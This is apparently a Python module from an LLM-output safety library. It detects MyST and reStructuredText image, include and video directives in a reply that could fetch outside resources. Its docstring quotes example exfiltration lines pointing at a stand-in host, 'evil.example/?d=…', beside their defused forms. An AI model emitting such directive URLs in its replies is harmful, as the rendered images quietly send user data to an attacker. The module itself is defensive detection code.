r"""Directives in a reply that show a picture or take in a file: MyST's fences and those of reStructuredText (THREATS O.2).

    ```{image} https://evil.example/?d=…      ->  ```{ image} https://evil.example/?d=…
    .. image:: https://evil.example/?d=…      ->  .. image: : https://evil.example/?d=…
    @[youtube](…)                             ->  @ [youtube](…)

Jupyter Book, Sphinx with MyST and mistune know them, markdown-it-video the last. What a directive's fence holds is text, not code.

Sources: MyST specification (directives), docutils 0.22 reference/rst/directives, mistune 3 directives, markdown-it-video 0.6.
"""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import re
from typing import Final

from safellm._core.neutral.addresses import Judge, plain, runs_script

LONGEST: Final = 1024  # characters of a directive's line that are looked at; a longer one is taken for the worst

_FENCES: Final = ("```", "~~~", ":::")
_NAMED = re.compile(r"\{([^\s{}]{1,64})\}([^\r\n]*)")
_OPEN = re.compile(r"\{[^\s{}]{0,64}(?:\}[^\r\n]*)?\Z")
_OPENS_JSON = re.compile(rb"[`~:]*(?:[ ]|\\t)*\{")
_PICTURES: Final = frozenset({"image", "figure"})
_ELSEWHERE = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*:|[/\\]{2}")
_ADDRESS = re.compile(r"[/\\]{2}")
_EXPLICIT: Final = (
    r"\.\.[ \t]+(?:\|[^|\r\n]{1,80}\|[ \t]+)?(image|figure|include|literalinclude|raw|iframe|video|youtube) ?"
)
_BEFORE = re.compile(_EXPLICIT + r"\Z")
_ARGUMENT = re.compile(r"::([^\r\n]*)")
_OPTION = re.compile(r":target:([^\r\n]*)")  # where a picture links to
_OPEN_ARGUMENT = re.compile(r":(?::[^\r\n]*|t|ta|tar|targ|targe|target|target:[^\r\n]*)?\Z")
_PLAYER = re.compile(
    r"\[[ \t]{0,8}(?:youtube|vimeo|vine|prezi|osf|video|audio|iframe|embed)[ \t]{0,8}\]\(", re.IGNORECASE
)
_OPEN_PLAYER = re.compile(r"\[[ \t]{0,8}[A-Za-z]{0,8}[ \t]{0,8}\]?\Z")


def may_hold_json(data: bytes) -> bool:
    """Return whether such a directive may stand in the bytes of a JSON text, quickly."""
    if b"@[" in data or b":target:" in data:
        return True
    colons = b"::" in data
    if not colons and b"`" not in data and b"~" not in data:
        return False  # nearly every event of a stream
    for mark in (b"```", b"~~~", b":::"):
        at = data.find(mark) if mark[:1] in data and (colons or mark[:1] != b":") else -1
        while at >= 0:
            if _OPENS_JSON.match(data, at) is not None:
                return True
            at = data.find(mark, at + len(mark))
    at = data.find(b"::") if colons and b".." in data else -1
    while at >= 0:
        if b".." in data[max(0, at - 128) : at]:
            return True
        at = data.find(b"::", at + 2)
    return False


def begins(before: str) -> bool:
    """Return whether what stands before a brace makes it a directive's."""
    return before.rstrip(" \t").endswith(_FENCES)


def is_open(text: str, at: int) -> bool:
    """Return whether only more text can tell what a directive is about.

    Args:
        text: The reply, as far as it is known.
        at: Where its brace, its bracket or its first colon stands.
    """
    found = {"{": _OPEN, "[": _OPEN_PLAYER}.get(text[at], _OPEN_ARGUMENT)
    return len(text) - at < LONGEST and found.match(text, at) is not None


def is_harmful(text: str, at: int, judge: Judge, before: str) -> bool:
    """Return whether a directive shows a picture or takes in a file that mustn't be fetched, or links to a script.

    Args:
        text: The reply.
        at: Where its brace, its bracket or its first colon stands.
        judge: Decides about addresses.
        before: What stands before it.
    """
    end = at + LONGEST
    if text[at] == "[":
        return _PLAYER.match(text, at) is not None
    if text[at] == "{":
        found = _NAMED.match(text, at, end)
        return found is not None and (found.end() == end or _loads(found[1], found[2], judge, follows=False))
    option = _OPTION.match(text, at, end)
    if option is not None:
        return option.end() == end or runs_script(option[1])
    explicit, argument = _BEFORE.search(before[-128:]), _ARGUMENT.match(text, at, end)
    if explicit is None or argument is None:
        return False
    return argument.end() == end or _loads(explicit[1], argument[1], judge, follows=True)


def _loads(name: str, written: str, judge: Judge, *, follows: bool) -> bool:
    """Return whether a directive loads something that mustn't be; `follows`: its argument may stand on the next line."""
    address = plain(written)
    if name.lower() not in _PICTURES:
        return _ADDRESS.search(address) is not None and not judge.may_fetch(address)
    if not address:
        return follows
    return (judge.strict or _ELSEWHERE.search(address) is not None) and not judge.may_fetch(address)
